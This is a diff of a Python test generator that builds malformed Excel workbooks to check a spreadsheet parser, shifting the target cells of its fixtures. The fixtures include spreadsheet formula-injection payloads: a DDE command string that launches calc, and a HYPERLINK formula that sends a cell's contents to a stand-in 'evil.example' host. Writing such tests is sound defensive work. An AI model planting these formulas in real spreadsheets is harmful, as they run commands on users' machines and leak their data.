@@ -414,18 +414,18 @@ def content_nasties(folder: Path) -> Path:
         styles, date_style = add_date_style(archive.read("xl/styles.xml"))
     first_values = {
         "B3": ZERO_WIDTH_CODE,            # project code with invisible and bidi characters
-        "B4": 1e308,                      # budget total: the largest double
-        "D4": "４０",                      # fiscal in full-width digits
-        "F4": "NaN",                      # other: text a float() would take
-        "B5": CONTROL_TEXT,               # purpose with control characters
+        "C4": 1e308,                      # budget total: the largest double
+        "E4": "４０",                      # fiscal in full-width digits
+        "G4": "NaN",                      # other: text a float() would take
+        "C5": CONTROL_TEXT,               # purpose with control characters
         "B7": -0.5,                       # spending plan below zero
-        "E11": "≥\u200b2000小时",          # a target with a zero-width space
-        "D12": LONG_TEXT,                 # 32,767 characters
+        "F11": "≥\u200b2000小时",          # a target with a zero-width space
+        "E12": LONG_TEXT,                 # 32,767 characters
     }
     second_values = {
-        "B4": -8.0,                       # negative money
-        "D4": ("date", 44562),            # a date (2022-01-01) where the fiscal amount belongs
-        "F4": 9.99e15,                    # absurd money
+        "C4": -8.0,                       # negative money
+        "E4": ("date", 44562),            # a date (2022-01-01) where the fiscal amount belongs
+        "G4": 9.99e15,                    # absurd money
         "C7": "Infinity",
     }
     return rewrite_zip(BASE, folder / "content_nasties.xlsx", replace={
@@ -435,13 +435,13 @@ def content_nasties(folder: Path) -> Path:
 
 
 INJECTIONS = {
-    "C11": '=HYPERLINK("http://x","y")',
-    "D11": "=cmd|' /C calc'!A0",
-    "F11": "+1+1",
-    "C12": "-2+3",
-    "D12": "@SUM(1)",
-    "F12": "\tleading tab",
-    "D13": "\rleading CR",
+    "D11": '=HYPERLINK("http://x","y")',
+    "E11": "=cmd|' /C calc'!A0",
+    "G11": "+1+1",
+    "D12": "-2+3",
+    "E12": "@SUM(1)",
+    "G12": "\tleading tab",
+    "E13": "\rleading CR",
 }
 
 
@@ -449,7 +449,7 @@ def formula_injection(folder: Path) -> Path:
     """A real return whose text inputs hold formula-like text (as text cells), and one real formula."""
     first = project_sheet_parts()[0]
     values = dict(INJECTIONS)
-    values["F13"] = ("formula", "1+1", 2)  # a real formula cell: its cached value is read, never the formula
+    values["G13"] = ("formula", "1+1", 2)  # a real formula cell: its cached value is read, never the formula
     return rewrite_zip(BASE, folder / "formula_injection.xlsx", replace={
         first: lambda d: set_cells(d, values),
         unit_sheet_part(): lambda d: set_cells(d, {"B5": '=HYPERLINK("http://evil.example/?leak="&A1,"click")'})})
